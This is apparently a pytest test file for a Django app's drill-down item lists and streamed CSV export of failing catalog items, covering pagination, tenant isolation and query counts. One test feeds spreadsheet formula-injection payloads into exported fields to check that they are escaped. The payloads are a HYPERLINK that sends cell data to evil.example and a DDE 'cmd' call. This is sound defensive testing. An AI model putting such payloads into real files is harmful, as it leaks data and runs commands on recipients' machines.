"""Drill-down lists (keyset pages) and the streamed CSV export of failing items."""

import csv
import io

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse

from catalog.tests.factories import CatalogFactory, ProductFactory, VariantFactory
from diagnostics import listing
from diagnostics.tests.factories import ErrorTypeFactory, ItemIssueFactory

pytestmark = pytest.mark.django_db
ITEMS = reverse("health:items")
EXPORT = reverse("health:export")


def rows_of(response) -> list[dict]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body)))


def test_drill_down_from_an_error_lists_its_items(merchant_client, make_variants):
    et = ErrorTypeFactory(code="IMAGE_THING")
    with_issue = make_variants(3, "FAILED")
    make_variants(2, "FAILED")
    for v in with_issue:
        ItemIssueFactory(variant=v, catalog=v.catalog, error_type=et)
    response = merchant_client.get(ITEMS, {"error": "IMAGE_THING"})
    assert [v.pk for v, _ in response.context["page"].rows] == [v.pk for v in with_issue]
    assert all(issues[0].error_type == et for _, issues in response.context["page"].rows)


def test_filter_by_status(merchant_client, make_variants):
    failed = make_variants(2, "FAILED")
    make_variants(3, "SYNCED")
    response = merchant_client.get(ITEMS, {"status": "FAILED"})
    assert [v.pk for v, _ in response.context["page"].rows] == [v.pk for v in failed]


def test_keyset_pagination_walks_every_item_once(merchant_client, make_variants, monkeypatch):
    monkeypatch.setattr(listing, "PAGE_SIZE", 2)
    variants = make_variants(5, "FAILED")
    seen, after = [], None
    for _ in range(5):
        params = {"status": "FAILED", **({"after": after} if after else {})}
        page = merchant_client.get(ITEMS, params).context["page"]
        seen += [v.pk for v, _ in page.rows]
        after = page.next_after
        if after is None:
            break
    assert seen == [v.pk for v in variants]


def test_unknown_error_code_is_404(merchant_client):
    assert merchant_client.get(ITEMS, {"error": "NO_SUCH_THING"}).status_code == 404


def test_other_tenants_items_never_listed(merchant_client, make_variants, other_tenant):
    make_variants(1, "FAILED")
    VariantFactory(
        product=ProductFactory(tenant=other_tenant), catalog=CatalogFactory(tenant=other_tenant), meta_status="FAILED"
    )
    page = merchant_client.get(ITEMS, {"status": "FAILED"}).context["page"]
    assert len(page.rows) == 1


@pytest.mark.parametrize("size", [2, 20])
def test_items_page_query_count_is_flat(merchant_client, make_variants, size, django_assert_num_queries):
    et = ErrorTypeFactory()
    for v in make_variants(size, "FAILED"):
        ItemIssueFactory(variant=v, catalog=v.catalog, error_type=et)
    merchant_client.get(ITEMS)  # first request saves the tenant in the session
    # session, user, tenants, catalog ids, error type, variant ids, variants, issues, the count
    with django_assert_num_queries(9):
        merchant_client.get(ITEMS, {"error": et.code})


def test_export_streams_failing_items_by_default(merchant_client, make_variants):
    et = ErrorTypeFactory(code="PRICE_THING", fix="Set a price above zero.")
    failing = make_variants(3, "FAILED", last_error="Meta said no")
    make_variants(2, "SYNCED")
    ItemIssueFactory(variant=failing[0], catalog=failing[0].catalog, error_type=et, message="price is 0")
    response = merchant_client.get(EXPORT)
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = rows_of(response)
    assert [r["retailer_id"] for r in rows] == [v.retailer_id for v in failing]
    assert rows[0]["error_codes"] == "PRICE_THING" and rows[0]["fixes"] == "Set a price above zero."
    assert rows[0]["where_to_fix"].endswith(f"/variants/{failing[0].shopify_variant_id}")
    assert rows[1]["problems"] == "Meta said no"


def test_export_walks_in_chunks(merchant_client, make_variants, monkeypatch):
    monkeypatch.setattr(listing, "EXPORT_CHUNK", 2)
    failing = make_variants(5, "FAILED")
    assert len(rows_of(merchant_client.get(EXPORT))) == len(failing)


def test_export_only_has_own_tenant(merchant_client, make_variants, other_tenant):
    make_variants(1, "FAILED")
    VariantFactory(
        product=ProductFactory(tenant=other_tenant), catalog=CatalogFactory(tenant=other_tenant), meta_status="FAILED"
    )
    assert len(rows_of(merchant_client.get(EXPORT))) == 1


def test_export_queries_do_not_grow_with_items(
    merchant_client, make_variants, monkeypatch, django_assert_max_num_queries
):
    """Per chunk: ids, variants, issues — the number of chunks, not of items, drives the count."""
    monkeypatch.setattr(listing, "EXPORT_CHUNK", 1000)
    make_variants(30, "FAILED")
    merchant_client.get(ITEMS)
    with django_assert_max_num_queries(8):
        rows_of(merchant_client.get(EXPORT))


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"], ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_export_cells_that_a_spreadsheet_would_run_as_formulas_are_escaped(merchant_client, make_variants, trigger):
    formula = f'{trigger}HYPERLINK("http://evil.example/?"&A1,"Click")'
    variant = make_variants(1, "FAILED", sku=formula, title=formula, last_error=f"{trigger}cmd|'/C calc'!A0")[0]
    variant.product.title = formula
    variant.product.save()
    row = rows_of(merchant_client.get(EXPORT))[0]
    assert row["sku"] == row["variant"] == row["product"] == "'" + formula
    assert not row["problems"].startswith(listing.FORMULA_TRIGGERS)  # one-lined, then escaped


def test_export_leaves_ordinary_cells_alone():
    assert listing.csv_cell("Winter Coat - S") == "Winter Coat - S"
    assert listing.csv_cell("") == ""
    assert listing.csv_cell(None) is None


def test_export_has_both_statuses_and_who_said_what(merchant_client, make_variants):
    make_variants(1, "SYNCED", verdict="REJECTED", review_status="rejected", review_rejection_reasons=["COUNTERFEIT"])
    make_variants(
        1,
        "FAILED",
        failure_source="LOCAL",
        last_error="The product has no image.",
        last_error_fix="Add at least one image to the product in Shopify.",
        last_error_code="EMPTY_IMAGE_URL",
    )
    make_variants(
        1,
        "FAILED",
        failure_source="META_BATCH",
        last_error="Invalid availability.",
        last_error_fix="Correct it in Shopify.",
        last_error_code="META_REJECTED",
    )
    make_variants(1, "PENDING", excluded=True)
    rows = {r["state"]: r for r in rows_of(merchant_client.get(EXPORT, {"state": "all"}))}
    assert set(rows) == {"rejected", "failed", "excluded"}
    rejected = rows["rejected"]
    assert (rejected["verdict"], rejected["review_status"]) == ("REJECTED", "rejected")
    assert "COUNTERFEIT" in rejected["why_not_visible"]
    failed = [r for r in rows_of(merchant_client.get(EXPORT)) if r["state"] == "failed"]
    by_source = {r["failure_source"]: r for r in failed}
    assert by_source["LOCAL"]["error_from"] == "galantis" and by_source["META_BATCH"]["error_from"] == "meta"
    assert by_source["LOCAL"]["fix"] == "Add at least one image to the product in Shopify."


def test_drill_down_by_state_lists_what_the_card_counts(merchant_client, make_variants):
    live = make_variants(2, "SYNCED", verdict="LIVE")
    make_variants(1, "SYNCED", verdict="LIVE", excluded=True)  # an archived product Meta still holds hidden
    make_variants(1, "SYNCED", verdict="REJECTED")
    response = merchant_client.get(ITEMS, {"state": "live"})
    assert [v.pk for v, _ in response.context["page"].rows] == [v.pk for v in live]
    assert response.context["total"] == 2
    assert b'data-testid="item-count" data-count="2"' in response.content


def test_old_status_links_mean_the_cards_state(merchant_client, make_variants):
    failed = make_variants(1, "FAILED")
    make_variants(1, "FAILED", excluded=True)
    page = merchant_client.get(ITEMS, {"status": "FAILED"}).context["page"]
    assert [v.pk for v, _ in page.rows] == [v.pk for v in failed]
